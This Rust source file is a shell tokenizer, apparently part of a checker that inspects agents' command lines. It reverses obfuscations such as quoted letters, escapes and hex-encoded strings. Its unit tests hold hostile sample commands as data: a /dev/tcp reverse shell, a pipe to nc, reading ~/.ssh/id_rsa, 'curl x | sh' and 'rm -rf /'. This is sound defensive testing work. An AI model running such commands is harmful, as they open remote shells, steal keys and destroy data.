//! Shell tokenizer: words (with quote removal, escapes, ANSI-C `$'…'`
//! strings, parameter and command substitutions), control operators and
//! redirections, heredocs included. POSIX shell and bash syntax; good
//! enough for PowerShell and cmd one-liners too, whose dangerous parts are
//! words.
//!
//! Obfuscations undone here: quotes inside words (`c'u'rl`, `"r"m`),
//! backslashes (`\rm`, `c\url`), `$'\x63\x75\x72\x6c'`, line continuations
//! and empty expansions (`cu$@rl`).

/// Where part of a word's value comes from another command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Sub {
    /// `$(…)` or `` `…` ``: the inner script's output becomes text.
    Command(String),
    /// `<(…)`: the inner script's output is read as a file.
    ProcessIn(String),
    /// `>(…)`: data written to the file goes to the inner script.
    ProcessOut(String),
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Word {
    /// Value after quote removal; substitutions appear as `\u{1}`.
    pub text: String,
    pub subs: Vec<Sub>,
    /// Parameter expansions (`$HOME`, `${X}`) by name, in order.
    pub params: Vec<String>,
    /// The word a `${NAME:-word}` (`-`, `:=`, `=`) expansion gives when
    /// `NAME` is unset, by name.
    pub defaults: Vec<(String, String)>,
    /// Unquoted `*`, `?` or `[` (a glob the shell would expand).
    pub glob: bool,
    /// An unquoted parameter expansion: the shell splits its value into
    /// fields at `$IFS` (`a="rm -rf ~"; $a` runs `rm`).
    pub split: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedirOp {
    /// `<`, `<>`
    In,
    /// `>`, `>|`, `&>`
    Out,
    /// `>>`, `&>>`
    Append,
    /// `<<` (the target holds the document body)
    HereDoc,
    /// `<<<`
    HereString,
    /// `>&N`, `<&N`
    Dup,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Op {
    /// `|` or `|&`
    Pipe,
    /// `;`, `&`, `&&`, `||`, newline, `(`, `)`: ends a pipeline.
    Sequence,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Tok {
    Word(Word),
    Op(Op),
    Redir { op: RedirOp, target: Word },
}

/// Marker standing for a substitution inside a word's text.
pub const SUB_MARK: char = '\u{1}';

/// Tokens never exceed this many per script (hostile input stays bounded).
pub const MAX_TOKENS: usize = 20_000;

/// Windows command lines (`C:\Windows\…`, `cmd /c …`, `powershell …`)
/// use backslashes as path separators, not escapes.
pub fn looks_windows(src: &str) -> bool {
    let t = src.trim_start().trim_start_matches(['"', '\'']);
    let b = t.as_bytes();
    let drive = b.len() > 2 && b[0].is_ascii_alphabetic() && b[1] == b':' && b[2] == b'\\';
    let first = t
        .split_whitespace()
        .next()
        .unwrap_or("")
        .rsplit(['\\', '/'])
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    drive
        || matches!(
            first.trim_end_matches(".exe"),
            "cmd" | "powershell" | "pwsh" | "del" | "rd" | "reg" | "schtasks" | "certutil"
        )
        || src.contains(":\\Windows\\")
        || src.contains(":\\Users\\")
}

pub fn tokenize(src: &str) -> Vec<Tok> {
    let mut lx = Lexer {
        s: src.as_bytes(),
        src,
        i: 0,
        out: Vec::new(),
        pending_heredocs: Vec::new(),
        windows: looks_windows(src),
    };
    lx.run();
    lx.out
}

struct Lexer<'a> {
    s: &'a [u8],
    src: &'a str,
    i: usize,
    out: Vec<Tok>,
    /// Heredocs whose bodies start after the current line: (token index,
    /// delimiter, strip tabs).
    pending_heredocs: Vec<(usize, String, bool)>,
    /// Backslashes are literal (Windows command lines).
    windows: bool,
}

impl Lexer<'_> {
    fn peek(&self, k: usize) -> Option<u8> {
        self.s.get(self.i + k).copied()
    }

    fn run(&mut self) {
        while self.i < self.s.len() && self.out.len() < MAX_TOKENS {
            let c = self.s[self.i];
            match c {
                b' ' | b'\t' | b'\r' => self.i += 1,
                b'\\' if self.peek(1) == Some(b'\n') => self.i += 2,
                b'\n' => {
                    self.i += 1;
                    self.out.push(Tok::Op(Op::Sequence));
                    self.read_heredoc_bodies();
                }
                b'#' => {
                    while self.i < self.s.len() && self.s[self.i] != b'\n' {
                        self.i += 1;
                    }
                }
                b'|' => {
                    if self.peek(1) == Some(b'|') {
                        self.i += 2;
                        self.out.push(Tok::Op(Op::Sequence));
                    } else {
                        self.i += if self.peek(1) == Some(b'&') { 2 } else { 1 };
                        self.out.push(Tok::Op(Op::Pipe));
                    }
                }
                b'&' => {
                    if self.peek(1) == Some(b'>') {
                        self.i += 2;
                        let op = if self.peek(0) == Some(b'>') {
                            self.i += 1;
                            RedirOp::Append
                        } else {
                            RedirOp::Out
                        };
                        self.redirect_target(op);
                    } else {
                        self.i += if self.peek(1) == Some(b'&') { 2 } else { 1 };
                        self.out.push(Tok::Op(Op::Sequence));
                    }
                }
                b';' | b'(' | b')' => {
                    self.i += 1;
                    self.out.push(Tok::Op(Op::Sequence));
                }
                b'<' | b'>' if self.peek(1) == Some(b'(') => {
                    // Process substitution as a word of its own.
                    let w = self.word();
                    self.out.push(Tok::Word(w));
                }
                b'<' | b'>' => self.redirection(),
                _ => {
                    // `2>file`, `2>&1`: digits glued to a redirection.
                    let digits = self.s[self.i..]
                        .iter()
                        .take_while(|b| b.is_ascii_digit())
                        .count();
                    if digits > 0 && matches!(self.peek(digits), Some(b'<' | b'>')) {
                        self.i += digits;
                        continue;
                    }
                    let w = self.word();
                    self.out.push(Tok::Word(w));
                }
            }
        }
    }

    fn redirection(&mut self) {
        let c = self.s[self.i];
        self.i += 1;
        let op = if c == b'>' {
            match self.peek(0) {
                Some(b'>') => {
                    self.i += 1;
                    RedirOp::Append
                }
                Some(b'|') => {
                    self.i += 1;
                    RedirOp::Out
                }
                Some(b'&') => {
                    self.i += 1;
                    RedirOp::Dup
                }
                _ => RedirOp::Out,
            }
        } else {
            match self.peek(0) {
                Some(b'<') if self.peek(1) == Some(b'<') => {
                    self.i += 2;
                    RedirOp::HereString
                }
                Some(b'<') => {
                    self.i += 1;
                    let strip = self.peek(0) == Some(b'-');
                    if strip {
                        self.i += 1;
                    }
                    self.skip_blanks();
                    let delim = self.word();
                    let idx = self.out.len();
                    self.out.push(Tok::Redir {
                        op: RedirOp::HereDoc,
                        target: Word::default(),
                    });
                    self.pending_heredocs.push((idx, delim.text, strip));
                    return;
                }
                Some(b'&') => {
                    self.i += 1;
                    RedirOp::Dup
                }
                Some(b'>') => {
                    self.i += 1;
                    RedirOp::In
                }
                _ => RedirOp::In,
            }
        };
        self.redirect_target(op);
    }

    fn redirect_target(&mut self, op: RedirOp) {
        self.skip_blanks();
        let target =
            if self.i < self.s.len() && !matches!(self.s[self.i], b'\n' | b';' | b'|' | b'&') {
                self.word()
            } else {
                Word::default()
            };
        // `>&file` (bash) writes a file; `>&2` duplicates a descriptor.
        let op =
            if op == RedirOp::Dup && !target.text.chars().all(|c| c.is_ascii_digit() || c == '-') {
                RedirOp::Out
            } else {
                op
            };
        self.out.push(Tok::Redir { op, target });
    }

    fn skip_blanks(&mut self) {
        while matches!(self.peek(0), Some(b' ' | b'\t')) {
            self.i += 1;
        }
    }

    fn read_heredoc_bodies(&mut self) {
        for (idx, delim, strip) in std::mem::take(&mut self.pending_heredocs) {
            let mut body = String::new();
            loop {
                if self.i >= self.s.len() {
                    break;
                }
                let end = self.s[self.i..]
                    .iter()
                    .position(|b| *b == b'\n')
                    .map_or(self.s.len(), |p| self.i + p);
                let line = &self.src[self.i..end];
                self.i = (end + 1).min(self.s.len());
                let check = if strip {
                    line.trim_start_matches('\t')
                } else {
                    line
                };
                if check.trim_end_matches('\r') == delim {
                    break;
                }
                body.push_str(line);
                body.push('\n');
            }
            if let Some(Tok::Redir { target, .. }) = self.out.get_mut(idx) {
                target.text = body;
            }
        }
    }

    /// One word, up to an unquoted blank or operator.
    fn word(&mut self) -> Word {
        let mut w = Word::default();
        while self.i < self.s.len() {
            let c = self.s[self.i];
            match c {
                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'|' | b'&' | b')' => break,
                b'(' if w.text.is_empty() => break,
                // An array assignment keeps its list as one word
                // (`cmd=(r m -r f)`).
                b'(' if is_assignment_prefix(&w.text) => {
                    let inner = self.balanced(self.i + 1, b'(', b')');
                    w.text.push('(');
                    w.text.push_str(&inner);
                    w.text.push(')');
                }
                b'<' | b'>' if self.peek(1) == Some(b'(') => {
                    let inner = self.balanced(self.i + 2, b'(', b')');
                    let sub = if c == b'<' {
                        Sub::ProcessIn(inner)
                    } else {
                        Sub::ProcessOut(inner)
                    };
                    w.subs.push(sub);
                    w.text.push(SUB_MARK);
                }
                b'<' | b'>' => break,
                b'\\' if self.windows => self.push_char(&mut w),
                b'\\' => {
                    self.i += 1;
                    match self.peek(0) {
                        Some(b'\n') => self.i += 1,
                        Some(_) => self.push_char(&mut w),
                        None => {}
                    }
                }
                b'\'' => {
                    self.i += 1;
                    let start = self.i;
                    while self.i < self.s.len() && self.s[self.i] != b'\'' {
                        self.i += 1;
                    }
                    w.text.push_str(&self.src[start..self.i]);
                    self.i = (self.i + 1).min(self.s.len());
                }
                b'"' => {
                    self.i += 1;
                    self.double_quoted(&mut w);
                }
                // A backtick with no partner is no substitution: the shell
                // rejects the line, and PowerShell reads it as an escape
                // (`` `& ``). What follows is judged as the words it is.
                b'`' if !self.s[self.i + 1..].contains(&b'`') => self.push_char(&mut w),
                b'`' => {
                    let inner = self.until_backtick();
                    w.subs.push(Sub::Command(inner));
                    w.text.push(SUB_MARK);
                }
                b'$' => {
                    let known = w.params.len();
                    self.dollar(&mut w);
                    w.split |= w.params.len() > known;
                }
                b'*' | b'?' | b'[' => {
                    w.glob = true;
                    self.push_char(&mut w);
                }
                _ => self.push_char(&mut w),
            }
        }
        w
    }

    fn push_char(&mut self, w: &mut Word) {
        let ch = self.src[self.i..].chars().next().expect("in bounds");
        w.text.push(ch);
        self.i += ch.len_utf8();
    }

    fn double_quoted(&mut self, w: &mut Word) {
        while self.i < self.s.len() {
            match self.s[self.i] {
                b'"' => {
                    self.i += 1;
                    return;
                }
                b'\\' if matches!(self.peek(1), Some(b'"' | b'\\' | b'$' | b'`' | b'\n')) => {
                    self.i += 1;
                    if self.peek(0) == Some(b'\n') {
                        self.i += 1;
                    } else {
                        self.push_char(w);
                    }
                }
                b'`' if !self.s[self.i + 1..].contains(&b'`') => self.push_char(w),
                b'`' => {
                    let inner = self.until_backtick();
                    w.subs.push(Sub::Command(inner));
                    w.text.push(SUB_MARK);
                }
                b'$' => self.dollar(w),
                _ => self.push_char(w),
            }
        }
    }

    fn until_backtick(&mut self) -> String {
        self.i += 1;
        let start = self.i;
        while self.i < self.s.len() && self.s[self.i] != b'`' {
            if self.s[self.i] == b'\\' {
                self.i += 1;
            }
            self.i += 1;
        }
        let end = self.i.min(self.s.len());
        self.i = (self.i + 1).min(self.s.len());
        self.src[start..end].replace("\\`", "`")
    }

    /// `$(…)`, `$((…))`, `${…}`, `$NAME`, `$'…'`, or a lone `$`.
    fn dollar(&mut self, w: &mut Word) {
        match self.peek(1) {
            Some(b'(') if self.peek(2) == Some(b'(') => {
                // Arithmetic: keep as text.
                let inner = self.balanced(self.i + 3, b'(', b')');
                w.text.push_str(&inner);
                if self.peek(0) == Some(b')') {
                    self.i += 1;
                }
            }
            Some(b'(') => {
                let inner = self.balanced(self.i + 2, b'(', b')');
                w.subs.push(Sub::Command(inner));
                w.text.push(SUB_MARK);
            }
            Some(b'{') => {
                let inner = self.balanced(self.i + 2, b'{', b'}');
                let bare = inner.trim_start_matches(['!', '#']);
                // `${!ref}` expands the variable whose name `ref` holds.
                let indirect = inner.starts_with('!') && !inner.ends_with(['@', '*']);
                let mut name: String = bare
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                    .collect();
                if let Some(default) = [":-", ":=", "-", "="]
                    .iter()
                    .find_map(|op| bare[name.len()..].strip_prefix(op))
                {
                    w.defaults.push((name.clone(), default.to_string()));
                }
                // An array element keeps its index (`${cmd[0]}`, `${cmd[@]}`).
                if let Some(index) = bare[name.len()..]
                    .strip_prefix('[')
                    .and_then(|r| r.split_once(']'))
                    .map(|(i, _)| i)
                    .filter(|i| {
                        i.chars()
                            .all(|c| c.is_ascii_digit() || c == '@' || c == '*')
                    })
                {
                    name = format!("{name}[{index}]");
                }
                if indirect {
                    name.insert(0, '!');
                }
                w.params.push(name.clone());
                w.text.push('$');
                w.text.push_str(&name);
            }
            Some(b'\'') => {
                self.i += 2;
                let start = self.i;
                while self.i < self.s.len() && self.s[self.i] != b'\'' {
                    if self.s[self.i] == b'\\' {
                        self.i += 1;
                    }
                    self.i += 1;
                }
                let end = self.i.min(self.s.len());
                w.text.push_str(&ansi_c(&self.src[start..end]));
                self.i = (self.i + 1).min(self.s.len());
            }
            Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
                self.i += 1;
                let start = self.i;
                while self
                    .peek(0)
                    .is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_')
                {
                    self.i += 1;
                }
                let name = self.src[start..self.i].to_string();
                w.params.push(name.clone());
                w.text.push('$');
                w.text.push_str(&name);
            }
            Some(b'@' | b'*' | b'#' | b'?' | b'!' | b'$' | b'-' | b'0'..=b'9') => {
                // Special parameters: empty in an agent's one-liner
                // (`cu$@rl` is curl).
                self.i += 2;
            }
            _ => {
                w.text.push('$');
                self.i += 1;
            }
        }
    }

    /// Text between `open`…`close` starting at `from` (just after the
    /// opening bracket), honouring nesting and quotes. Leaves `i` after the
    /// closing bracket.
    fn balanced(&mut self, from: usize, open: u8, close: u8) -> String {
        let mut depth = 1usize;
        let mut j = from;
        let mut quote: Option<u8> = None;
        while j < self.s.len() {
            let c = self.s[j];
            match quote {
                Some(q) => {
                    if c == b'\\' && q == b'"' {
                        j += 1;
                    } else if c == q {
                        quote = None;
                    }
                }
                None => match c {
                    b'\\' => j += 1,
                    b'\'' | b'"' | b'`' => quote = Some(c),
                    _ if c == open => depth += 1,
                    _ if c == close => {
                        depth -= 1;
                        if depth == 0 {
                            break;
                        }
                    }
                    _ => {}
                },
            }
            j += 1;
        }
        let end = j.min(self.s.len());
        let inner = self.src[from.min(end)..end].to_string();
        self.i = (end + 1).min(self.s.len());
        inner
    }
}

/// `name=` so far: a `(` next opens an array's list.
fn is_assignment_prefix(text: &str) -> bool {
    text.strip_suffix('=').is_some_and(|name| {
        name.chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

/// Decode the body of an ANSI-C `$'…'` string.
pub fn ansi_c(s: &str) -> String {
    let b = s.as_bytes();
    let mut bytes: Vec<u8> = Vec::with_capacity(b.len());
    let mut i = 0;
    let hex = |slice: &[u8]| -> u32 {
        slice
            .iter()
            .fold(0u32, |a, c| a * 16 + (*c as char).to_digit(16).unwrap_or(0))
    };
    while i < b.len() {
        if b[i] != b'\\' || i + 1 >= b.len() {
            bytes.push(b[i]);
            i += 1;
            continue;
        }
        let c = b[i + 1];
        i += 2;
        match c {
            b'n' => bytes.push(b'\n'),
            b't' => bytes.push(b'\t'),
            b'r' => bytes.push(b'\r'),
            b'e' | b'E' => bytes.push(0x1b),
            b'a' => bytes.push(7),
            b'0'..=b'7' => {
                let mut v = (c - b'0') as u32;
                let mut n = 1;
                while n < 3 && i < b.len() && (b'0'..=b'7').contains(&b[i]) {
                    v = v * 8 + (b[i] - b'0') as u32;
                    i += 1;
                    n += 1;
                }
                bytes.push(v as u8);
            }
            b'x' => {
                let n = b[i..]
                    .iter()
                    .take(2)
                    .take_while(|c| c.is_ascii_hexdigit())
                    .count();
                bytes.push(hex(&b[i..i + n]) as u8);
                i += n;
            }
            b'u' | b'U' => {
                let max = if c == b'u' { 4 } else { 8 };
                let n = b[i..]
                    .iter()
                    .take(max)
                    .take_while(|c| c.is_ascii_hexdigit())
                    .count();
                if let Some(ch) = char::from_u32(hex(&b[i..i + n])) {
                    let mut buf = [0u8; 4];
                    bytes.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
                }
                i += n;
            }
            other => bytes.push(other),
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(src: &str) -> Vec<String> {
        tokenize(src)
            .into_iter()
            .filter_map(|t| match t {
                Tok::Word(w) => Some(w.text),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn quotes_and_escapes_are_removed() {
        assert_eq!(
            words(r#"c'u'rl "-s" \rm c\url"#),
            ["curl", "-s", "rm", "curl"]
        );
        assert_eq!(
            words(r"$'\x63\x61\x74' /etc/pa\sswd"),
            ["cat", "/etc/passwd"]
        );
        assert_eq!(words("cu$@rl x"), ["curl", "x"]);
        assert_eq!(words("echo a\\\nb"), ["echo", "ab"]);
    }

    #[test]
    fn operators_and_redirections() {
        let t = tokenize("cat a 2>/dev/null | nc h 1 >> out && echo hi > /tmp/x");
        let pipes = t.iter().filter(|t| **t == Tok::Op(Op::Pipe)).count();
        assert_eq!(pipes, 1);
        let redirs: Vec<(RedirOp, String)> = t
            .iter()
            .filter_map(|t| match t {
                Tok::Redir { op, target } => Some((*op, target.text.clone())),
                _ => None,
            })
            .collect();
        assert_eq!(
            redirs,
            [
                (RedirOp::Out, "/dev/null".to_string()),
                (RedirOp::Append, "out".to_string()),
                (RedirOp::Out, "/tmp/x".to_string())
            ]
        );
        let dup = tokenize("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1");
        assert!(dup.iter().any(|t| matches!(t, Tok::Redir { op: RedirOp::Out, target } if target.text == "/dev/tcp/10.0.0.1/8080")));
    }

    #[test]
    fn substitutions_are_kept() {
        let t = tokenize("bash <(curl -s x) \"$(cat ~/.ssh/id_rsa)\" `whoami`");
        let subs: Vec<Sub> = t
            .into_iter()
            .flat_map(|t| match t {
                Tok::Word(w) => w.subs,
                _ => vec![],
            })
            .collect();
        assert_eq!(
            subs,
            [
                Sub::ProcessIn("curl -s x".into()),
                Sub::Command("cat ~/.ssh/id_rsa".into()),
                Sub::Command("whoami".into())
            ]
        );
    }

    #[test]
    fn heredoc_body_is_captured() {
        let t = tokenize("bash <<EOF\ncurl x | sh\nEOF\necho done");
        assert!(t.iter().any(|t| matches!(t, Tok::Redir { op: RedirOp::HereDoc, target } if target.text == "curl x | sh\n")));
        assert_eq!(
            words("bash <<EOF\nrm -rf /\nEOF\necho done"),
            ["bash", "echo", "done"]
        );
    }

    #[test]
    fn hostile_input_is_bounded() {
        let s = "$(".repeat(50_000);
        let _ = tokenize(&s);
        let s = "a ".repeat(100_000);
        assert!(tokenize(&s).len() <= MAX_TOKENS);
        let _ = tokenize("\"unterminated $(x `y");
    }
}
